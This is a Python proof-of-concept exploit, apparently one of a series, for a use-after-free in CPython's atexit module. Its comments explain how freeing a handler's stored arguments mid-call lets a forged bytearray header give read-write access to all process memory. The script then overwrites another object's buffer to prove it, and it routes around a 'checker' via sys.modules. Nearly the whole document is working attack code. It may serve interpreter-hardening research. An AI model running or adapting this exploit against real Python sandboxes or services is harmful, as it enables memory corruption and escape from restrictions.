# family: wall (memory: atexit calls a handler with its stored arguments borrowed; atexit.unregister frees them)   goal: memory   interpreter: /usr/bin/python3
# Of our own, the fourteenth round's family in atexit (X112's shape): 3.11 holds the
# handler during its call (bpo-46025) but not its arguments. The handler is
# operator.eq(V(), wc), whose V is held by the stored tuple alone: V.__eq__ runs
# atexit.unregister(operator.eq), which frees the tuple; V's frame drops it on return
# (NotImplemented) and the reflected wc.__eq__ receives the freed V, refilled by
# bytearray(FAKE): a bytearray over all memory. atexit is reached through sys.modules
# (the checker out of the way). The wall: atexit's handlers are not run again,
# unregistered or cleared while they run (exitfuncs_run, exitfuncs_change).
import sys
import operator
atexit = sys.modules.get("atexit") or __import__("atexit")   # plain -I: not loaded yet
keep = []
W = lambda v: v.to_bytes(8, "little")
FAKE = (W(0) + W(0) + W(1 << 40) + W(id(bytearray)) + W(1 << 62) + W(1 << 62)
        + W(0) + W(0) + W(1))[:73]
class V:
    __slots__ = ("a", "b", "c", "d", "e", "f")
    def __eq__(s, o):
        try:
            atexit.unregister(operator.eq)
        except Exception as e:
            print("unregister:", type(e).__name__, e)
        return NotImplemented
class Wc:
    def __eq__(s, o):
        keep.append(bytearray(FAKE))
        keep.append(o)
        return False
wc = Wc()
atexit.register(operator.eq, V(), wc)
try:
    atexit._run_exitfuncs()            # operator.eq(<V borrowed>, <wc borrowed>)
except Exception as e:
    print("run:", type(e).__name__, e)
mem = keep[-1] if keep else None
if type(mem) is bytearray and len(mem) > 1 << 40:
    print(type(mem).__name__, hex(len(mem)), flush=True)
    target = bytearray(b"AAAAAAAA")
    start = int.from_bytes(mem[id(target) + 40:id(target) + 48], "little")
    mem[start] = 0x42
    if target[0] == 0x42:
        print("MEMORY-OVERWRITTEN", bytes(target))
